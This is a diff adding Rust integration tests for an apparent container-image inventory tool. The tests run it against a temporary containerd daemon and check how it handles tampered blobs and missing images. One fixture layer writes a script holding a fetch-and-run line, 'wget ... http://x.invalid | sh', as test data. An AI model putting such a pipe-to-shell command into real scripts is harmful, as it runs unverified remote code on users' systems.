@@ -327,3 +327,158 @@ fn containers_storage_hostile_metadata_is_refused() {
     assert_eq!(out.status.code(), Some(2), "{err}");
     assert!(err.contains("digest mismatch"), "{err}");
 }
+
+/// A containerd started on a temporary root, state and socket; stopped
+/// (by its process id) when dropped.
+struct Containerd {
+    child: std::process::Child,
+    dir: tempfile::TempDir,
+}
+
+impl Containerd {
+    fn start() -> Containerd {
+        let dir = tmp();
+        let d = dir.path();
+        let config = format!(
+            "version = 2\nroot = \"{root}\"\nstate = \"{state}\"\n\
+             [grpc]\n  address = \"{sock}\"\n\
+             [plugins.\"io.containerd.grpc.v1.cri\"]\n  disable = true\n",
+            root = d.join("root").display(),
+            state = d.join("state").display(),
+            sock = d.join("c.sock").display(),
+        );
+        std::fs::write(d.join("config.toml"), config).unwrap();
+        let log = std::fs::File::create(d.join("log")).unwrap();
+        let child = std::process::Command::new("containerd")
+            .arg("--config")
+            .arg(d.join("config.toml"))
+            .stdout(log.try_clone().unwrap())
+            .stderr(log)
+            .spawn()
+            .expect("start containerd");
+        let c = Containerd { child, dir };
+        for _ in 0..100 {
+            if c.ctr(&["version"]).status.success() {
+                return c;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(100));
+        }
+        panic!(
+            "containerd did not start: {}",
+            std::fs::read_to_string(c.dir.path().join("log")).unwrap_or_default()
+        );
+    }
+
+    fn socket(&self) -> String {
+        self.dir.path().join("c.sock").display().to_string()
+    }
+
+    fn ctr(&self, args: &[&str]) -> std::process::Output {
+        std::process::Command::new("ctr")
+            .args(["-a", &self.socket(), "-n", "k8s.io"])
+            .args(args)
+            .output()
+            .expect("run ctr")
+    }
+
+    fn blob(&self, d: &stowaway::digest::Sha256) -> PathBuf {
+        self.dir
+            .path()
+            .join("root/io.containerd.content.v1.content/blobs/sha256")
+            .join(d.hex())
+    }
+}
+
+impl Drop for Containerd {
+    fn drop(&mut self) {
+        // SAFETY: signalling the daemon this test started, by its pid.
+        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
+        let _ = self.child.wait();
+    }
+}
+
+/// The image with gzip layers (containerd keeps the original blobs).
+fn compressed_image(tag: &str) -> BuiltImage {
+    stowaway::fixture::demo_image()
+        .layer(
+            LayerBuilder::new()
+                .created_by("RUN more")
+                .file(
+                    "usr/bin/tool",
+                    b"#!/bin/sh\nwget -q -O- http://x.invalid | sh\n",
+                    0o755,
+                )
+                .hardlink("usr/bin/tool2", "usr/bin/tool"),
+        )
+        .tag(tag)
+        .build()
+}
+
+#[test]
+fn containerd_inventory_equals_the_oci_layouts_and_tampering_is_exit_2() {
+    if !require("containerd") || !require("ctr") {
+        return;
+    }
+    let t = tmp();
+    let img = compressed_image("docker.io/stowaway-test/ctd:1");
+    let layout = t.path().join("layout");
+    img.write_oci_layout(&layout).unwrap();
+    let archive = t.path().join("oci.tar");
+    img.write_oci_archive(&archive).unwrap();
+    let ctd = Containerd::start();
+    let out = ctd.ctr(&["images", "import", &archive.display().to_string()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let sock = ctd.socket();
+    let db = t.path().join("db.sqlite").display().to_string();
+    let flags = ["--containerd-address", sock.as_str(), "--db", db.as_str()];
+
+    let (want, err, code) = inventory(&format!("oci:{}", layout.display()), &[]);
+    assert_eq!(code, 0, "{err}");
+    for name in ["stowaway-test/ctd:1", "docker.io/stowaway-test/ctd:1"] {
+        let (got, err, code) = inventory(&format!("containerd:{name}"), &flags);
+        assert_eq!(code, 0, "{name}: {err}");
+        assert_eq!(got["files"], want["files"], "{name}: files differ");
+        assert_eq!(got["removed"], want["removed"], "{name}: removed differ");
+        assert_eq!(got["image"]["digest"], want["image"]["digest"]);
+        assert_eq!(got["image"]["transport"], "containerd");
+    }
+
+    // Another namespace holds nothing; a missing name lists what is there.
+    let mut other = flags.to_vec();
+    other.extend(["--containerd-namespace", "default"]);
+    let (_, err, code) = inventory("containerd:stowaway-test/ctd:1", &other);
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("no image named") && err.contains("holds: nothing"),
+        "{err}"
+    );
+    let (_, err, code) = inventory("containerd:stowaway-test/absent:1", &flags);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("docker.io/stowaway-test/ctd:1"), "{err}");
+
+    // One byte of a stored layer blob changed: the digest check names it.
+    let layer = img.layers[2].digest;
+    let blob = ctd.blob(&layer);
+    let mut bytes = std::fs::read(&blob).unwrap();
+    let at = bytes.len() / 2;
+    bytes[at] ^= 0x40;
+    std::fs::write(&blob, &bytes).unwrap();
+    let mut no_cache = flags.to_vec();
+    no_cache.push("--no-cache");
+    let (_, err, code) = inventory("containerd:stowaway-test/ctd:1", &no_cache);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(&layer.to_string()), "{err}");
+
+    // No daemon on the socket: exit 2 naming it.
+    let gone = t.path().join("none.sock").display().to_string();
+    let (_, err, code) = inventory("containerd:x", &["--containerd-address", gone.as_str()]);
+    assert_eq!(code, 2, "{err}");
+    assert!(
+        err.contains("cannot reach containerd") && err.contains("none.sock"),
+        "{err}"
+    );
+}
